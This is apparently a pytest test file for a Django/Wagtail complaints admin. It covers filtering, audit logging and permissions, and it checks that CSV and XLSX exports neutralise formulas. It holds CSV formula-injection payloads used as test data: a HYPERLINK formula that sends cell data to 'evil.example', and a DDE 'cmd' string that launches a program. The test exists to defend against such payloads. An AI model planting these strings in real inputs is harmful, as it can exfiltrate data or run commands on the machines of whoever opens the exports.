"""The officers' admin: one list across languages, filters, search, the case, exports, the log."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from complaints.models import Complaint, ComplaintMessage, MessageStatus, Status
from complaints.submission import create_complaint
from tests.complaints.conftest import LANGUAGES, VALID_ANSWERS

pytestmark = pytest.mark.django_db

PERSONAL_DATA = ("Leyla", "leyla@example.org", "pension", "Nizami", "+994")
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "authority": "+1+cmd|' /C calc'!A0",
    "what_happened": "-2+3",
    "when_happened": "@SUM(1,2)",
    "outcome_sought": "\tTAB",
    "postal_address": "\rCR",
}


def cleaned(answers):
    return {**answers, "court_involvement": answers.get("court_involvement", "no")}


@pytest.fixture
def cases():
    made = {}
    for language in LANGUAGES:
        answers = {**VALID_ANSWERS, "name": f"Leyla {language.upper()}"}
        made[language] = create_complaint(cleaned(answers), language)
    return made


def rows_of(response):
    return response.content.decode()


def test_one_list_across_languages_with_filters_and_search(officer_client, cases):
    cases["ru"].status = Status.IN_REVIEW
    cases["ru"].save()
    index = reverse("complaints:index")
    html = rows_of(officer_client.get(index))
    for complaint in cases.values():
        assert complaint.reference in html
    # The list shows no personal data: only reference, date, language, status, assignee.
    assert "Leyla" not in html and "leyla@example.org" not in html
    only_ru = rows_of(officer_client.get(index, {"language": "ru"}))
    assert cases["ru"].reference in only_ru and cases["az"].reference not in only_ru
    in_review = rows_of(officer_client.get(index, {"status": "in_review"}))
    assert cases["ru"].reference in in_review and cases["en"].reference not in in_review
    searched = rows_of(officer_client.get(index, {"q": "Leyla EN"}))
    assert cases["en"].reference in searched and cases["az"].reference not in searched
    today = cases["az"].received_at.date().isoformat()
    dated = rows_of(officer_client.get(index, {"received_at_from": today}))
    assert cases["az"].reference in dated
    future = rows_of(officer_client.get(index, {"received_at_from": "2999-01-01"}))
    assert cases["az"].reference not in future


def test_the_list_and_the_case_say_when_the_acknowledgement_is_not_sent_yet(officer_client, cases):
    # Nothing was sent: the tests' on-commit sending never ran for these cases.
    html = rows_of(officer_client.get(reverse("complaints:index")))
    assert "Not sent yet" in html
    pending = rows_of(
        officer_client.get(reverse("complaints:index"), {"acknowledgement_pending": "true"})
    )
    assert cases["az"].reference in pending
    ComplaintMessage.objects.filter(complaint=cases["az"]).update(status=MessageStatus.SENT)
    pending = rows_of(
        officer_client.get(reverse("complaints:index"), {"acknowledgement_pending": "true"})
    )
    assert cases["az"].reference not in pending
    case = rows_of(officer_client.get(reverse("complaints:edit", args=[cases["en"].pk])))
    assert "Acknowledgement to the complainant: <strong>Not sent yet</strong>" in case


def test_viewing_a_case_is_logged_without_personal_data(officer_client, officer, cases):
    response = officer_client.get(reverse("complaints:edit", args=[cases["az"].pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Leyla AZ" in html and VALID_ANSWERS["what_happened"] in html
    entry = ModelLogEntry.objects.get(action="complaints.view")
    assert entry.user == officer and entry.object_id == str(cases["az"].pk)
    assert entry.label == cases["az"].reference
    assert entry.timestamp is not None


def test_status_changes_assignment_and_notes_are_saved_and_logged(officer_client, officer, cases):
    url = reverse("complaints:edit", args=[cases["en"].pk])
    response = officer_client.post(
        url, {"status": "in_review", "outcome": "", "assignee": officer.pk, "note": "Called her."}
    )
    assert response.status_code == 302
    # Closing needs an outcome.
    refused = officer_client.post(url, {"status": "closed", "outcome": ""})
    assert refused.status_code == 400
    assert "Choose the outcome of the closed case." in refused.content.decode()
    officer_client.post(url, {"status": "closed", "outcome": "resolved", "assignee": officer.pk})
    complaint = Complaint.objects.get(pk=cases["en"].pk)
    assert (complaint.status, complaint.outcome) == ("closed", "resolved")
    assert complaint.closed_at is not None
    assert complaint.notes.get().text == "Called her."
    actions = list(
        ModelLogEntry.objects.filter(object_id=str(complaint.pk))
        .exclude(action="complaints.view")
        .order_by("pk")
        .values_list("action", "data")
    )
    assert actions == [
        ("complaints.status_change", {"old": "received", "new": "in_review", "outcome": ""}),
        ("complaints.assign", {"assignee_id": officer.pk}),
        ("complaints.add_note", {"note_id": complaint.notes.get().pk}),
        ("complaints.status_change", {"old": "in_review", "new": "closed", "outcome": "resolved"}),
    ]
    history = officer_client.get(reverse("complaints:history", args=[complaint.pk]))
    assert "Status changed from “In review” to “Closed”" in history.content.decode()
    for entry in ModelLogEntry.objects.all():
        logged = f"{entry.label} {entry.data}"
        assert not any(personal in logged for personal in PERSONAL_DATA + ("Called her",))


def test_officers_who_may_only_view_cannot_change_them(client, cases):
    from tests.complaints.conftest import client_for, make_user

    viewer = make_user(
        "viewer",
        permissions=[("wagtailadmin", "access_admin"), ("complaints", "view_complaint")],
    )
    viewer_client = client_for(viewer)
    url = reverse("complaints:edit", args=[cases["az"].pk])
    assert viewer_client.get(url).status_code == 200
    response = viewer_client.post(url, {"status": "closed", "outcome": "resolved"})
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert Complaint.objects.get(pk=cases["az"].pk).status == "received"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_neutralise_formulas_and_are_logged(officer_client, officer, export_format):
    complaint = create_complaint(cleaned({**VALID_ANSWERS, **HOSTILE}), "en")
    response = officer_client.get(reverse("complaints:index"), {"export": export_format})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode())))
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        values = list(sheet.values)
        rows = [dict(zip(values[0], row, strict=True)) for row in values[1:]]
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
    (row,) = rows
    assert row["Name"] == "'" + HOSTILE["name"]
    assert row["Body complained about"] == "'" + HOSTILE["authority"]
    assert row["What happened"] == "'-2+3"
    assert row["When it happened"] == "'@SUM(1,2)"
    assert row["Outcome sought"] == "'\tTAB"
    assert row["Court involvement"] == "no"
    assert row["Reference number"] == complaint.reference
    entry = ModelLogEntry.objects.get(action="complaints.export")
    assert entry.user == officer and entry.data == {"format": export_format}
